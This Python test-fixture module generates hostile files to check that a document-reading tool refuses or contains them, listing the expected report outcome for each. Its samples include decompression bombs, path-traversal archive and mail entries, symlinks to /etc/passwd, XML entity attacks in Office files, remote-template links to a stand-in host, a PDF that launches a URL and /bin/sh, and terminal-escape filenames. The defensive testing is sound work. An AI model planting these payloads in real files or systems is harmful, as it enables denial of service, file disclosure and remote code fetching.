"""Sixty-odd files that want to hurt whoever reads them, each with what the report must say of it."""

from __future__ import annotations

import bz2
import gzip
import lzma
import os
import random
import socket
import tarfile
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from pathlib import Path

from hostile_archives import MEGABYTE, encrypted_zip, link, lying, nested, overlapping, stored, tarred, zipped
from hostile_documents import (
    FETCHED,
    LAUGHS,
    OUTSIDE,
    attached,
    book,
    locked_docx,
    locked_pdf,
    looping_ole,
    mail,
    page,
    paragraph,
    picture_bomb,
    portable,
    repeated_cells,
    sheet_of_claims,
    with_links,
    with_part,
    word,
)
from parser_samples import PAGE, WORDS, docx, open_document, pdf, png, pptx, xlsx

NOISE = random.Random(5).randbytes(10_000)


@dataclass(frozen=True, slots=True)
class Hostile:
    """How a file is put on the disk, and the outcome and words that the report must have for it."""

    make: bytes | Callable[[Path], object]
    outcome: str
    reason: str = ""  # a regular expression, for a file that is not read


def sparse(path: Path) -> None:
    with path.open("wb") as file:
        file.truncate(600 * MEGABYTE)


def pipe(path: Path) -> None:
    os.mkfifo(path)


def listening(path: Path) -> None:
    """A socket; its name is made short first, because sockets have short names."""
    here = Path.cwd()
    os.chdir(path.parent)
    try:
        with socket.socket(socket.AF_UNIX) as server:
            server.bind(path.name)
    finally:
        os.chdir(here)


def device(path: Path) -> None:
    os.mknod(path, 0o20600, os.makedev(1, 5))  # the device of endless zeros


def make_link(target: str) -> Callable[[Path], object]:
    return lambda path: path.symlink_to(target)


TOO_MUCH = "would unpack to more than"
ENTITIES = "entit"
HOSTILE: dict[str, Hostile] = {
    # archives
    "bomb.zip": Hostile(zipped({"zeros.txt": b"0" * 64 * MEGABYTE}), "failed", TOO_MUCH),
    "bomb.gz": Hostile(gzip.compress(b"0" * 64 * MEGABYTE), "failed", TOO_MUCH),
    "bomb.tar.bz2": Hostile(bz2.compress(b"0" * 64 * MEGABYTE), "failed", TOO_MUCH),
    "bomb.tar.xz": Hostile(lzma.compress(b"0" * 64 * MEGABYTE, preset=0), "failed", TOO_MUCH),
    "nested.zip": Hostile(nested(8), "added"),
    "many.zip": Hostile(zipped({f"{n}.txt": b"x" for n in range(2_500)}), "failed", "more than 2000 files"),
    "lying.zip": Hostile(lying(), "added"),
    "overlapping.zip": Hostile(overlapping(), "failed", f"damaged|{TOO_MUCH}"),
    "encrypted.zip": Hostile(encrypted_zip(), "failed", "needs a password"),
    "cut.zip": Hostile(zipped({"a.txt": NOISE[:5_000]})[:2_500], "failed", "damaged|not an archive"),
    "climbing.zip": Hostile(
        zipped({"../../../etc/evil.txt": b"climbed", "/absolute.txt": b"x", "C:\\drive.txt": b"x", "..\\b.txt": b"x"}),
        "added",
    ),
    "links.tar": Hostile(
        tarred(
            link("up", "../../.."),
            link("passwd", "/etc/passwd"),
            link("hard", "/etc/passwd", tarfile.LNKTYPE),
            link("zero", "", tarfile.CHRTYPE),
            link("pipe", "", tarfile.FIFOTYPE),
        ),
        "skipped",
        "no text",
    ),
    "heavy.zip": Hostile(stored({f"{n}.bin": bytes(16 * MEGABYTE) for n in range(7)}), "added"),
    "heavier.zip": Hostile(stored({f"{n}.bin": bytes(16 * MEGABYTE) for n in range(9)}), "failed", TOO_MUCH),
    # XML
    "laughs.xml": Hostile(f"<?xml version='1.0'?>{LAUGHS}<x>&a11;</x>".encode(), "failed", ENTITIES),
    "outside.xml": Hostile(f"<?xml version='1.0'?>{OUTSIDE}<x>&a;</x>".encode(), "failed", ENTITIES),
    "fetched.xml": Hostile(f"<?xml version='1.0'?>{FETCHED}<x>y</x>".encode(), "failed", ENTITIES),
    "utf16.xml": Hostile(
        f"<?xml version='1.0' encoding='utf-16'?>{OUTSIDE}<x>&a;</x>".encode("utf-16"), "failed", ENTITIES
    ),
    "laughs.docx": Hostile(word(paragraph("&a11;"), LAUGHS), "failed", ENTITIES),
    "outside.docx": Hostile(word(paragraph("&a;"), OUTSIDE), "failed", ENTITIES),
    "fetched.docx": Hostile(word(paragraph(WORDS), FETCHED), "failed", ENTITIES),
    "laughs.xlsx": Hostile(
        with_part(xlsx(), "xl/worksheets/sheet1.xml", lambda text: LAUGHS + text.replace(WORDS, "&a11;")),
        "failed",
        ENTITIES,
    ),
    "outside.pptx": Hostile(
        with_part(pptx(), "ppt/slides/slide1.xml", lambda text: OUTSIDE + text.replace(WORDS, "&a;")),
        "failed",
        ENTITIES,
    ),
    "laughs.odt": Hostile(
        with_part(
            open_document("text", "<office:text><text:p>WORDS</text:p></office:text>"),
            "content.xml",
            lambda text: LAUGHS + text.replace("WORDS", "&a11;"),
        ),
        "failed",
        ENTITIES,
    ),
    "outside.epub": Hostile(
        book(f"{OUTSIDE}<html xmlns='http://www.w3.org/1999/xhtml'><body><p>&a;</p></body></html>".encode()),
        "failed|skipped|added",
    ),
    "deep.xml": Hostile(b"<a>" * 200_000, "failed|skipped", "nest|deep|depth"),
    "deep.html": Hostile(b"<div>" * 200_000 + b"x", "failed", "too deep"),
    "deep.json": Hostile(b"[" * 200_000, "failed|added"),
    "deep.docx": Hostile(
        word("<w:sdt><w:sdtContent>" * 3_000 + "</w:sdtContent></w:sdt>" * 3_000), "failed", "nest|deep|damaged"
    ),
    "deep.rtf": Hostile(b"{\\rtf1 " + b"{" * 200_000 + b"x", "failed|added|skipped"),
    # what would fetch something
    "template.docx": Hostile(
        with_links(docx(), "word/_rels/settings.xml.rels", "attachedTemplate", "http://192.0.2.1/evil.dotm"), "added"
    ),
    "picture.docx": Hostile(
        with_links(docx(), "word/_rels/document.xml.rels", "image", "http://192.0.2.1/seen.png"), "added"
    ),
    "book.xlsx": Hostile(with_links(xlsx(), "xl/_rels/x.xml.rels", "externalLink", "http://192.0.2.1/x.xlsx"), "added"),
    "pictures.html": Hostile(
        f'<img src="http://192.0.2.1/x.png"><link rel=stylesheet href="http://192.0.2.1/x.css"><iframe src="http://192.0.2.1/">'
        f'</iframe><script>fetch("http://192.0.2.1/")</script><p>{WORDS}</p>'.encode(),
        "added",
    ),
    "picture.md": Hostile(f"# Leave\n\n![x](http://192.0.2.1/x.png) {WORDS}\n".encode(), "added"),
    "body.eml": Hostile(
        mail(
            'Content-Type: multipart/mixed; boundary="b"',
            f'--b\nContent-Type: text/html\n\n<p>{WORDS}</p><img src="http://192.0.2.1/">\n--b\nContent-Type: '
            'message/external-body; access-type=URL; URL="http://192.0.2.1/x"\n\nContent-Type: text/plain\n\n--b--\n',
        ),
        "added",
    ),
    "actions.pdf": Hostile(
        page(
            f"BT /F1 12 Tf 72 700 Td ({WORDS}) Tj ET".encode(),
            catalog="/OpenAction << /S /JavaScript /JS (app.launchURL('http://192.0.2.1/')) >> /AA << /WC "
            "<< /S /Launch /F (/bin/sh) >> >>",
        ),
        "added",
    ),
    # mails
    "climbing.eml": Hostile(
        attached("../../../../etc/cron.d/x.txt", "/etc/x.txt", "..\\..\\x.txt", "CON.txt", "a\tb.txt"), "added"
    ),
    "deep.eml": Hostile(
        b"From: a\nSubject: x\n" + b"Content-Type: message/rfc822\n\n" * 3_000, "failed", "nests its parts too deep"
    ),
    "sealed.eml": Hostile(
        mail('Content-Type: multipart/encrypted; boundary="b"', "--b\n\nx\n--b--\n"), "failed", "encrypted"
    ),
    "headers.eml": Hostile(mail("\n".join(f"X-{n}: {'y' * 50}" for n in range(20_000)), WORDS), "added"),
    "none.eml": Hostile(NOISE[:4_000], "failed", "not a mail|not text"),
    # the file system
    "loop": Hostile(make_link("."), "skipped", "a link"),
    "up": Hostile(make_link("../.."), "skipped", "a link"),
    "passwd.txt": Hostile(make_link("/etc/passwd"), "skipped", "a link"),
    "dangling.txt": Hostile(make_link("nowhere"), "skipped", "a link"),
    "zero.txt": Hostile(make_link("/dev/zero"), "skipped", "a link"),
    "pipe.txt": Hostile(pipe, "skipped", "a pipe"),
    "socket.txt": Hostile(listening, "skipped", "a socket"),
    "device.txt": Hostile(device, "skipped", "a device"),
    "sparse.txt": Hostile(sparse, "failed", "more than 256 MiB"),
    # what it is not
    "zero.pdf": Hostile(b"", "failed", "empty"),
    "zero.docx": Hostile(b"", "failed", "empty"),
    "zero.md": Hostile(b"", "skipped", "no text"),
    "picture.pdf": Hostile(png(), "failed", "not a|damaged|cannot be"),
    "page.docx": Hostile(PAGE.encode(), "failed", "damaged|not a"),
    "sheet.pdf": Hostile(xlsx(), "failed", "not a|damaged|cannot be"),
    "program.txt": Hostile(b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 40, "failed", "not text"),
    "random.xlsx": Hostile(NOISE[:9_000], "failed", "damaged|not a"),
    "random.png": Hostile(NOISE[:9_000], "failed", "not|damaged|cannot|ocr"),
    "program.exe": Hostile(b"MZ" + NOISE[:2_000], "skipped", "no reader for .exe"),
    # cut off, locked
    "cut.pdf": Hostile(pdf()[:300], "failed|skipped", "damaged|cannot be|no text|not a|had no text"),
    "cut.docx": Hostile(docx()[:-200], "failed", "damaged or cut off"),
    "cut.pptx": Hostile(pptx()[:400], "failed", "damaged or cut off"),
    "locked.pdf": Hostile(locked_pdf(), "failed", "password|encrypted"),
    "locked.docx": Hostile(locked_docx(), "failed", "password|encrypted"),
    # huge claims
    "sheet.xlsx": Hostile(sheet_of_claims(), "failed|added", "more than|memory|"),
    "cells.ods": Hostile(repeated_cells(), "failed|added", "more than|memory|"),
    "picture.png": Hostile(picture_bomb(), "failed", "pixels|large|memory|ocr"),
    "spans.html": Hostile(
        f"<table><tr><td colspan=999999999 rowspan=999999999>{WORDS}<td>x</tr><tr><td>y</tr></table>".encode(), "added"
    ),
    "stream.pdf": Hostile(
        page(b"BT /F1 12 Tf (x) Tj ET\n" + b" " * 200 * MEGABYTE, packed=True), "added|failed|skipped"
    ),
    "wall.pdf": Hostile(
        page(f"BT /F1 12 Tf 72 700 Td ({WORDS}) Tj ET".encode(), box="0 0 9e9 9e9"), "added|failed|skipped"
    ),
    "circle.pdf": Hostile(
        portable(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 999999999 >>"),
        "failed|skipped",
        "damaged|cannot be|no text|no page|pages",
    ),
    "circle.xls": Hostile(looping_ole(), "failed", "lead in a circle"),
    "binary.rtf": Hostile(b"{\\rtf1 \\bin999999999 x" + WORDS.encode() + b"}", "added|skipped|failed"),
    "number.json": Hostile(b'{"n": ' + b"9" * 100_000 + b', "rule": "' + WORDS.encode() + b'"}', "added|failed"),
    "aliases.yaml": Hostile(
        ("a0: &a0 [x]\n" + "".join(f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12))).encode(),
        "added",
    ),
    "line.csv": Hostile(b'"' + b"x," * 100_000, "added|failed"),
    # names
    "\x1b]0;owned\x07\x1b[2J.txt": Hostile(f"{WORDS} Escape.\n".encode(), "added"),
    "invoice\u202efdp.txt": Hostile(f"{WORDS} Turned.\n".encode(), "added"),
    # readers that go wrong (test_hostile.py brings them)
    "a.hangs": Hostile(b"x", "failed", "given up"),
    "a.crashes": Hostile(b"x", "failed", "reader of this format failed"),
    "a.leaves": Hostile(b"x", "failed", "reader of this format failed"),
    "a.hoards": Hostile(b"x", "failed", "more memory than allowed"),
    "a.floods": Hostile(b"x", "failed", "damaged answer|over its limit"),
    "a.shouts": Hostile(b"x", "failed", "damaged answer|over its limit"),
    "a.lies": Hostile(b"x", "failed", "ranges that do not fit"),
    "a.calls": Hostile(b"x", "failed", "OSError"),
}
SHORT = (
    *(
        "bomb.zip",
        "bomb.gz",
        "overlapping.zip",
        "nested.zip",
        "climbing.zip",
        "links.tar",
        "laughs.xml",
        "outside.docx",
    ),
    *("laughs.xlsx", "deep.html", "template.docx", "pictures.html", "climbing.eml", "deep.eml", "loop", "pipe.txt"),
    *("device.txt", "sparse.txt", "zero.pdf", "program.txt", "cut.docx", "locked.pdf", "sheet.xlsx", "picture.png"),
    *("\x1b]0;owned\x07\x1b[2J.txt", "a.hangs", "a.crashes", "a.leaves", "a.hoards", "a.floods"),
)


def write_hostile(folder: Path, names: tuple[str, ...]) -> None:
    """Put those of HOSTILE on the disk."""
    folder.mkdir(parents=True)
    for name in names:
        make = HOSTILE[name].make
        if callable(make):
            make(folder / name)
        else:
            (folder / name).write_bytes(make)


@contextmanager
def changing(path: Path) -> Iterator[None]:
    """A file that grows all the time, large enough that no reading of it falls between two changes."""
    with path.open("wb") as file:
        file.truncate(64 * MEGABYTE)
    done = threading.Event()

    def change() -> None:
        number = 0
        while not done.is_set():
            number += 1
            with suppress(OSError):
                os.utime(path, ns=(number, number))
            time.sleep(0.0005)

    thread = threading.Thread(target=change)
    thread.start()
    try:
        yield
    finally:
        done.set()
        thread.join()
